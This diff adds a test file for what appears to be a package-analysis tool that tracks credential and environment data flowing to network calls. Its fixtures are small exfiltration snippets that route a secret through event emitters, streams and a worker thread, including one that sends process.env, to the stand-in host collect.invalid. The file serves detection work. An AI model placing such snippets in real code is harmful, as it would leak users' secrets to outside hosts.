@@ -1,0 +1,43 @@
+import assert from 'node:assert/strict';
+import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
+import { packageOf } from '../../../../support/artifacts.js';
+import { flowsOf } from './sent.js';
+
+const SEND = `https.request('https://collect.invalid').end`;
+const SENT = 'credential-file>network@collect.invalid';
+
+const WAYS: readonly string[] = [
+  `const e = new events(); e.on('x', (v) => ${SEND}(v)); e.emit('x', s);`,
+  `const e = new events.EventEmitter(); e.emit('x', 1, s); e.addListener('x', (_, v) => ${SEND}(v));`,
+  `class Bus extends events {} const e = new Bus(); e.once('x', (v) => ${SEND}(v)); e.emit('x', s);`,
+  `const e = new events(); e.on(String(Date.now()), (v) => ${SEND}(v)); e.emit('x', s);`,
+  `const e = new EventTarget(); e.addEventListener('x', ({ detail }) => ${SEND}(detail)); e.dispatchEvent(new CustomEvent('x', { detail: s }));`,
+  `const p = new stream.PassThrough(); p.on('data', (d) => ${SEND}(d)); p.end(s);`,
+];
+
+describe('events of the package itself', () => {
+  for (const way of WAYS) {
+    it(`bring data to whoever listens: ${way}`, () => {
+      const flows = flowsOf(way);
+      assert.ok(flows.includes(SENT), flows.join('; '));
+    });
+  }
+
+  it('do not bring it to who listens to something else', () => {
+    assert.deepEqual(flowsOf(`const e = new events(); e.on('y', (v) => ${SEND}(v)); e.emit('x', s);`), []);
+  });
+
+  it('bring what a worker found to the code that started it', () => {
+    const { flows } = analysePackage(
+      packageOf({
+        'index.js': `const { Worker } = require('worker_threads'); const w = new Worker(require('path').join(__dirname, 'w.js'));
+          w.on('message', (m) => require('https').request('https://collect.invalid').end(m));`,
+        'w.js': `const { parentPort } = require('worker_threads'); parentPort.postMessage(JSON.stringify(process.env));`,
+      }),
+    );
+    assert.deepEqual(
+      flows.map(({ source, sink, host }) => [source, sink, host]),
+      [['environment', 'network', 'collect.invalid']],
+    );
+  });
+});
